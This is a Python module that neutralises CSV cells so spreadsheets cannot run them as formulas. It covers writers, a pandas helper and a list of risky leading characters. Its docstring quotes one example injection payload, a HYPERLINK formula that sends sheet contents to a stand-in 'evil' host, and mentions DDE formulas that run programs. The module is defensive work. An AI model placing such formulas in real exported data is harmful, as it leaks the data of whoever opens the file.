"""CSV that a spreadsheet cannot turn into a formula (OWASP "CSV injection").

A spreadsheet opening a CSV evaluates a cell that begins with ``=``, ``+``, ``-`` or
``@`` as a formula (and some also after a leading tab, carriage return or newline):
``=HYPERLINK("http://evil/?"&A1, "click")`` in an owner's name would leak the sheet, and
DDE formulas can run programs. Every CSV landgov writes for people therefore passes its
cells through :func:`neutralise_cell`: a text cell that begins with one of those
characters gets a single quote in front (``'=HYPERLINK(...)``), which spreadsheets show
as text and hide. Numbers stay numbers: an ``int`` ``-2`` is written ``-2``, a ``float``
``-2.5`` is ``-2.5`` (only text is prefixed, so the text ``"-2+3"`` becomes ``'-2+3``).

Use :func:`write_csv` (or :func:`safe_writer` around an open file) for rows, and
:func:`neutralise_frame` before ``DataFrame.to_csv``. Files that are an import format
(the mutation register) are data for landgov, not for a spreadsheet, and are written
as they are.
"""

from __future__ import annotations

import contextlib
import csv
import numbers
import os
import uuid
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import IO, Any, Final

import pandas as pd

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n")
"""What a text cell may not begin with unless neutralised."""


def neutralise_cell(value: object) -> object:
    """``value`` made safe for a spreadsheet cell (module notes).

    None, booleans and numbers (int, float, Decimal, numpy's) are returned unchanged;
    text beginning with ``=``, ``+``,
    ``-``, ``@``, tab, carriage return or newline gets a leading single quote; any other
    object is written as its text, checked the same way.
    """
    if value is None or _plain_number(value):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def _plain_number(value: object) -> bool:
    """A number a CSV writes as a numeric literal (int, float, Decimal, numpy's, bool);
    not a Fraction, whose ``-1/2`` a spreadsheet would evaluate."""
    if not isinstance(value, numbers.Number):
        return False
    return not (isinstance(value, numbers.Rational) and not isinstance(value, numbers.Integral))


def neutralise_row(row: Iterable[object]) -> list[object]:
    return [neutralise_cell(v) for v in row]


class SafeWriter:
    """A :func:`csv.writer` whose every cell goes through :func:`neutralise_cell`."""

    def __init__(self, fh: IO[str], **fmtparams: Any) -> None:
        self._writer = csv.writer(fh, **fmtparams)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(fh: IO[str], **fmtparams: Any) -> SafeWriter:
    """``csv.writer(fh, **fmtparams)`` with neutralised cells."""
    return SafeWriter(fh, **fmtparams)


def write_csv(
    path: Path,
    header: Sequence[str],
    rows: Iterable[Iterable[object]],
    *,
    bom: bool = False,
) -> int:
    """Writes ``header`` and ``rows`` (neutralised) to ``path`` as UTF-8 CSV; returns the
    number of data rows. ``bom`` adds a byte-order mark (Excel then reads UTF-8 right).

    The file is written beside ``path`` under a temporary name and renamed over it, so a
    failure never leaves half a file.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    temp = path.with_name(f".{path.name}.{uuid.uuid4().hex[:8]}.tmp")
    count = 0
    try:
        with temp.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as fh:
            writer = safe_writer(fh, lineterminator="\n")
            writer.writerow(header)
            for row in rows:
                writer.writerow(row)
                count += 1
        os.replace(temp, path)
    finally:
        with contextlib.suppress(FileNotFoundError):
            temp.unlink()
    return count


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell neutralised (numbers, dates and missing
    values untouched), ready for ``to_csv``; the column names are neutralised too."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(
                lambda v: neutralise_cell(v) if isinstance(v, str) else v,
                na_action="ignore",
            )
    out.columns = [neutralise_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out
